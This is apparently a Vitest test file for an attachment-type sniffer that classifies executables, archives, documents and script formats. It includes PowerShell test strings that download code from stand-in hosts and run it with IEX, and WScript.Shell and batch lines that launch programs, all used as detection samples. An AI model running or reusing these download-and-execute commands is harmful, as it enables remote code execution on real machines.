import { describe, expect, it } from "vitest";
import { classifyText, sniff } from "../../../src/core/attachments/content/sniff.js";
import { describeKind, familyOfKind } from "../../../src/core/attachments/content/kinds.js";
import { buildOle } from "../../helpers/ole.js";
import * as f from "../../helpers/formats.js";
import { buildZip } from "../../helpers/zip.js";

const text = (s: string): Uint8Array => new TextEncoder().encode(s);

describe("magic-byte sniffing", () => {
  it.each([
    ["PE program", f.pe(), "pe-executable"],
    ["PE DLL", f.pe(true), "pe-library"],
    ["ELF", f.elf(), "elf"],
    ["Mach-O", f.machO(), "mach-o"],
    ["Java class (0xCAFEBABE with a class version)", f.javaClass(), "java-class"],
    ["Windows shortcut", f.lnk(), "lnk"],
    ["OneNote", f.oneNote(new Uint8Array(4)), "onenote"],
    ["VHD (footer at the end)", f.vhdFooter(), "vhd"],
    ["VHDX", f.vhdx(), "vhdx"],
    ["ISO 9660", f.iso([]), "iso"],
    ["RAR 4", f.rar4([{ name: "a" }]), "rar"],
    ["RAR 5", f.rar5([{ name: "a" }]), "rar"],
    ["7z", f.sevenZip(["030101"]), "7z"],
    ["gzip", f.gzip(text("x")), "gzip"],
    ["tar", f.tar([{ name: "a", data: "b" }]), "tar"],
    ["cab", f.cab(["a.txt"]), "cab"],
    ["zip", buildZip([{ name: "a.txt", data: "x" }]), "zip"],
    ["OLE", buildOle({ streams: { a: "b" } }), "ole"],
    ["PDF", f.pdf({ objects: ["<< >>"] }), "pdf"],
    ["PDF after junk (readers look 1024 bytes in)", new Uint8Array([...new Array(100).fill(0x20), ...f.pdf({ objects: ["<< >>"] })]), "pdf"],
    ["RTF", text("{\\rtf1\\ansi hello}"), "rtf"],
    ["RTF as Word accepts it", text("{\\rt hello}"), "rtf"],
    ["JPEG", Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 0x10), "jpeg"],
    ["PNG", Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), "png"],
    ["GIF", text("GIF89a...."), "gif"],
    ["empty", new Uint8Array(0), "empty"],
    ["random binary", Uint8Array.from({ length: 2000 }, (_, i) => (i * 7919) & 0xff), "unknown"],
  ])("%s", (_name, bytes, kind) => {
    expect(sniff(bytes)).toBe(kind);
  });

  it("has a description and a family for the kinds that matter", () => {
    expect(describeKind("pe-executable")).toBe("Windows program (PE)");
    expect(familyOfKind("lnk")).toBe("executable");
    expect(familyOfKind("ooxml-word")).toBe("office");
    expect(familyOfKind("text")).toBeUndefined();
  });
});

describe("text formats", () => {
  it.each([
    ["<!DOCTYPE html><html><body>x</body></html>", "html"],
    ["\ufeff  <!-- saved --> <html>", "html"],
    ['<script>location="https://x.example"</script>', "html"],
    ["<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "svg"],
    ['<html><head><hta:application id="a"/></head></html>', "hta"],
    ["begin 644 invoice.zip\nM4$L#!\n`\nend\n", "uuencoded"],
    ["BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "calendar"],
    ["Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]", "registry-file"],
    ["[InternetShortcut]\r\nURL=https://x.example/", "internet-shortcut"],
    ["@echo off\r\nstart calc", "batch"],
    ['$c = New-Object Net.WebClient; IEX ($c.DownloadString("http://x.example/a"))', "powershell"],
    ['var s = new ActiveXObject("WScript.Shell"); s.Run("calc"); WScript.Sleep(10);', "jscript"],
    ['Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "vbscript"],
    ["Received: from a\r\nFrom: a@example.jp\r\nSubject: x\r\nTo: b@example.jp\r\n\r\nbody", "email"],
    ["Minutes of the meeting. We discussed PowerShell and Invoke-Expression policy.", "text"],
    ["Plain words, nothing else.", "text"],
  ])("%s → %s", (head, kind) => {
    expect(classifyText(head)).toBe(kind);
  });

  it("reads UTF-16 text with a byte-order mark (how PowerShell and regedit save files)", () => {
    const utf16 = (s: string): Uint8Array => Uint8Array.from([0xff, 0xfe, ...[...s].flatMap((c) => [c.charCodeAt(0), 0])]);
    expect(sniff(utf16("Windows Registry Editor Version 5.00\r\n"))).toBe("registry-file");
    expect(sniff(utf16("IEX (New-Object Net.WebClient).DownloadString('http://x')"))).toBe("powershell");
  });
});
